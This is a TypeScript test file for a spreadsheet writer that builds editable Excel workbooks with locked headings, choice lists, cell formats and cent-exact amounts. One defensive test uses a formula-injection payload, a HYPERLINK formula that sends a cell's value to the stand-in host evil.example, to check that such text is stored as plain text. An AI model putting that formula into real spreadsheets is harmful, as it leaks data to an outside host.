import ExcelJS from 'exceljs'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import {
  type EditableColumn,
  writeEditableBook,
} from '../../../src/formats/spreadsheet/editable_book.ts'
import { read, sayable } from './book.ts'

const columns: EditableColumn[] = [
  { header: 'Name', type: 'text', width: 20, note: 'What it is called.' },
  { header: 'Price', type: 'money', width: 12 },
  { header: 'Age', type: 'integer', width: 8, choices: [0, 16, 18] },
  { header: 'Cup', type: 'text', width: 12, choices: ['Cup, large', '=Glass'] },
  { header: 'Tags', type: 'text', width: 12, choices: ['hot'], takes_several: true },
]
const form = { last_row: 50, choose: 'Please choose.' }

const written = (rows: unknown[][], more: object = { form }) =>
  writeEditableBook({ sheet_name: 'Menu', columns, rows, ...more })

async function opened(file: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook()
  return workbook.xlsx.load(file as unknown as ExcelJS.Buffer)
}

const text = (value: string) =>
  writeEditableBook({
    sheet_name: 'Text',
    columns: [{ header: 'Text', type: 'text', width: 10 }],
    rows: [[value]],
  })

describe('a workbook that people fill in', () => {
  test('has frozen headings, widths and formats, and the values to the cent', async () => {
    const sheet = (await opened(await written([['007', 1235, 16, null, 'hot']]))).worksheets[0]!

    expect(sheet.name).toBe('Menu')
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect(sheet.getCell('A1')).toMatchObject({ value: 'Name', font: { bold: true } })
    expect(sheet.getColumn(1).width).toBe(20)
    expect(sheet.getCell('A2')).toMatchObject({ value: '007', numFmt: '@' })
    expect(sheet.getCell('B2')).toMatchObject({ value: 12.35, numFmt: '#,##0.00' })
    expect(sheet.getCell('C2')).toMatchObject({ value: 16, numFmt: '0' })
    // Also where nothing stands yet.
    expect([sheet.getColumn(1).numFmt, sheet.getColumn(2).numFmt]).toEqual(['@', '#,##0.00'])
  })

  test('locks its headings and nothing else, without a password', async () => {
    const sheet = (await opened(await written([['Beer', 500, 16, null, null]]))).worksheets[0]!

    const { sheetProtection } = sheet as unknown as { sheetProtection: object }
    expect(sheetProtection).toMatchObject({ sheet: true, deleteRows: true, insertRows: true })
    expect(sheetProtection).not.toHaveProperty('hashValue')
    for (const { address } of columns.map((_, n) => sheet.getCell(1, n + 1)))
      expect(sheet.getCell(address).protection?.locked, address).not.toBe(false)
    for (const column of [1, 2, 3, 4, 5, 6, 100, 16_384])
      expect(sheet.getColumn(column).style.protection, `${column}`).toMatchObject({ locked: false })
    expect(sheet.getCell('A2').protection).toMatchObject({ locked: false })
  })

  test('says beside a heading what goes there', async () => {
    const sheet = (await opened(await written([]))).worksheets[0]!

    const { texts } = sheet.getCell('A1').note as ExcelJS.Comment
    expect(texts?.map(({ text }) => text)).toEqual(['What it is called.'])
    expect(sheet.getCell('B1').note).toBeUndefined()
  })

  test('offers what there is to choose from, with whatever signs, on a sheet that nobody sees', async () => {
    const book = await opened(await written([]))
    const [sheet, lists] = book.worksheets

    const choices = (address: string) => {
      const { formulae, type } = sheet!.getCell(address).dataValidation
      expect(type).toBe('list')
      const [, column, from, to] = /^lists!\$(\w)\$(\d+):\$\w\$(\d+)$/.exec(formulae[0])!
      const rows = Array.from({ length: Number(to) }, (_, n) => n + Number(from))
      return rows.map((row) => lists!.getCell(`${column}${row}`).value)
    }
    expect(lists!.state).toBe('veryHidden')
    expect(choices('C2')).toEqual([0, 16, 18])
    expect(choices('D50')).toEqual(['Cup, large', '=Glass'])
    expect(sheet!.getCell('D2').dataValidation).toMatchObject({
      showErrorMessage: true,
      error: 'Please choose.',
    })
    // Several of them stand in one cell, which no list can hold.
    expect(choices('E2')).toEqual(['hot'])
    expect(sheet!.getCell('E2').dataValidation.showErrorMessage).toBeFalsy()
    expect(sheet!.getCell('A2').dataValidation).toBeUndefined()
    expect(sheet!.getCell('D51').dataValidation).toBeUndefined()
  })

  test('without a form is a plain list', async () => {
    const book = await opened(await written([['Beer', 500, 16, null, null]], {}))

    expect(book.worksheets).toHaveLength(1)
    const [sheet] = book.worksheets as unknown as { sheetProtection: unknown }[]
    expect(sheet!.sheetProtection).toBeFalsy()
  })

  test.each(['=', '+', '-', '@', '\t', '\r', '\u0000', '\n', ' =', '＝'])(
    'writes a text that begins with %j as text and never as a formula',
    async (prefix) => {
      const value = `${prefix}HYPERLINK("http://evil.example?"&A1,"x")`

      const file = await text(value)

      const cell = (await opened(file)).worksheets[0]!.getCell('A2')
      const plain = value.replace('\u0000', '')
      expect(cell).toMatchObject({ type: ExcelJS.ValueType.String, value: plain, numFmt: '@' })
      expect(await read(file)).toMatchObject([{}, { cells: [plain], has_formula: false }])
    },
  )

  test('keeps what looks like an object, an escape or a link as it is', async () => {
    const values = ['_x0041_', '_x005F_x0041_', ' a ', 'a\r\nb', ']]>', '&amp;', '"\'<b>']
    values.push('https://example.org', '{"formula":"1+1"}', '#REF!', 'TRUE', '2026-07-04')

    for (const value of values) expect((await read(await text(value)))[1]!.cells).toEqual([value])
  })

  test('keeps every text that XML can carry, but for the sign that deletes', async () => {
    const anyText = fc.string({ unit: 'binary', maxLength: 60 })
    await fc.assert(
      fc.asyncProperty(fc.array(anyText, { minLength: 1, maxLength: 20 }), async (values) => {
        const file = await writeEditableBook({
          sheet_name: 'Text',
          columns: [{ header: 'Text', type: 'text', width: 10 }],
          rows: values.map((value) => [value]),
        })

        const found = new Map((await read(file)).map(({ number, cells }) => [number, cells[0]]))
        for (const [n, value] of values.entries())
          expect(found.get(n + 2) ?? '').toBe(sayable(value).replaceAll('\u007f', ''))
      }),
      { numRuns: 50 },
    )
  })

  test('cuts a text at what a cell may hold', async () => {
    const [, row] = await read(await text('x'.repeat(40_000)))

    expect(row?.cells[0]).toHaveLength(32_767)
  })

  test('has every amount to the cent, however large', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.maxSafeInteger(), { minLength: 1 }), async (amounts) => {
        const file = await writeEditableBook({
          sheet_name: 'Money',
          columns: [{ header: 'Amount', type: 'money', width: 10 }],
          rows: amounts.map((amount) => [amount]),
        })

        const cells = (await read(file)).slice(1).map(({ cells: [cell] }) => cell)
        expect(cells).toEqual(amounts.map((amount) => Number(`${amount}e-2`)))
      }),
      { numRuns: 10 },
    )
  })
})
